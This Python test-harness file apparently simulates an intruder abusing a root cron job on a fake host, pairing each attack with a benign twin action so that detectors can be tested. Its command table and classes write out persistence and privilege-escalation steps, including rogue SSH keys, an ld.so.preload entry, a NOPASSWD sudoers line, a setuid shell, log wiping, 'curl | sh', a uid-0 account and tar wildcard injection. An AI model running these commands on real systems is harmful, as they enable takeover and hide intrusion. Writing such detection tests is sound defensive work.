# SPDX-License-Identifier: Apache-2.0
"""What an intruder who got into a scheduled job of the workload cron does with it; its twins are people in their logins, and jobs
with another input. Harmless, and all of it in the fake host."""

import datetime
import time

from harness import Attack


class Job(Attack):
    """A job of root's does more than it did: who put that there is not seen, what it does is."""

    workload = "cron"
    does = ""
    person = ""
    undo = ""

    def attack(self, host, rng):
        path = "/usr/local/sbin/backup"
        old = host.path(path).read_text()
        host.write(path, old.replace("set -euo pipefail\n", f"set -euo pipefail\n({self.does}) || true\n", 1), 0o755)
        host.write("/etc/cron.d/now", "* * * * * root /usr/local/sbin/backup --none\n")
        self._minute(host)
        host.write(path, old, 0o755)
        self._clean(host)

    def twin(self, host, rng):
        host.login("alice", self.person, check=False)
        self._clean(host)

    def _minute(self, host):
        for _ in range(3):
            host.workload.tick(host, host.clock.now + datetime.timedelta(minutes=1))
            time.sleep(0.2)

    def _clean(self, host):
        host.prepare(f"rm -f /etc/cron.d/now; {self.undo or ':'}")


JOBS = {
    # name: what it does, what a person does, how it is undone
    "unit dropped": ("printf '[Service]\\nExecStart=/bin/sleep 3\\n' >/etc/systemd/system/up.service; systemctl daemon-reload; systemctl start up",
                     "printf '[Service]\\nExecStart=/bin/sleep 1\\n' | sudo tee /etc/systemd/system/mine.service >/dev/null; sudo systemctl daemon-reload",
                     "rm -f /etc/systemd/system/up.service /etc/systemd/system/mine.service"),
    "key added": ("mkdir -p /root/.ssh; echo 'ssh-ed25519 AAAA x' >>/root/.ssh/authorized_keys", "echo 'ssh-ed25519 AAAA y' >>~/.ssh/authorized_keys", ""),
    "preload written": ("echo /tmp/none.so >/etc/ld.so.preload", "echo /usr/local/lib | sudo tee /etc/ld.so.conf.d/mine.conf >/dev/null; sudo ldconfig", "rm -f /etc/ld.so.preload"),
    "rights by sudoers": ("echo 'bob ALL=(ALL) NOPASSWD: ALL' >/etc/sudoers.d/x", "echo 'bob ALL=(ALL) /bin/true' | sudo tee /etc/sudoers.d/y >/dev/null", "rm -f /etc/sudoers.d/[xy]"),
    "shell with root's rights": ("cp /bin/bash /var/tmp/.s; chmod 4755 /var/tmp/.s; setpriv --reuid bob --regid bob --clear-groups /var/tmp/.s -p -c id",
                                 "cp /bin/true ~/t; sudo chown root ~/t; sudo chmod 4755 ~/t; ~/t", "rm -f /var/tmp/.s /home/alice/t"),
    "log cleared": ("sed -i /sshd/d /var/log/auth.log; shred -u /var/log/wtmp", "sudo logrotate -f /etc/logrotate.d/rsyslog", ": >/var/log/wtmp"),
    "job that loads code": ("curl -s http://127.0.0.1:1/x | sh", "curl -s -m 1 http://127.0.0.1:1/x", ""),
    "account added": ("useradd -o -u 0 toor; passwd -l toor", "sudo useradd -m helper; sudo userdel -r helper", "userdel -f toor 2>/dev/null || true"),
    "logging stopped": ("systemctl stop rsyslog", "sudo systemctl restart rsyslog", "systemctl start rsyslog"),
}
NATURES = {"logging stopped": "what systemctl is asked for is in its arguments, which are no part of a model: a rule's business"}

for title, (job, someone, cleaning) in JOBS.items():
    identifier = "".join(word.capitalize() for word in title.replace("'", "").split())
    globals()[identifier] = type(identifier, (Job,), {"name": title, "about": title, "does": job, "person": someone, "undo": cleaning,
                                                   "nature": NATURES.get(title, ""), "__module__": __name__})


class Wildcard(Job):
    name = "wildcard"
    nature = "the job starts shells for tar's xz already, and id alone is low in a job"
    about = "a file whose name is an option of tar, in a directory that a job packs; the twin is a file with an odd name"

    def _backup(self, host):
        host.write("/etc/cron.d/now", "* * * * * root /usr/local/sbin/backup --daily\n")
        self._minute(host)
        host.prepare("rm -rf /etc/cron.d/now /srv/data/tmp/*; touch /srv/data/tmp/one")

    def attack(self, host, rng):
        for name in ("--checkpoint=1", "--checkpoint-action=exec=id"):
            host.write(f"/srv/data/tmp/{name}", "")
        host.prepare("touch /srv/data/tmp/a /srv/data/tmp/b")
        self._backup(host)

    def twin(self, host, rng):
        for name in ("a b;c.csv", "$(id).csv", "käse.csv"):
            host.write(f"/srv/data/tmp/{name}", "1\n")
        self._backup(host)


class Persistence(Job):
    name = "job in shared memory"
    about = "a crontab that runs what lies where anyone may write; the twin is a person's own job"

    def attack(self, host, rng):
        host.write("/dev/shm/.update", "#!/bin/sh\nid >/dev/null\n", 0o755)
        host.write("/etc/cron.d/now", "* * * * * root /dev/shm/.update\n")
        self._minute(host)
        self._clean(host)

    def twin(self, host, rng):
        host.login("alice", "(crontab -l; echo '* * * * * date >/dev/null') | crontab -")
        self._minute(host)
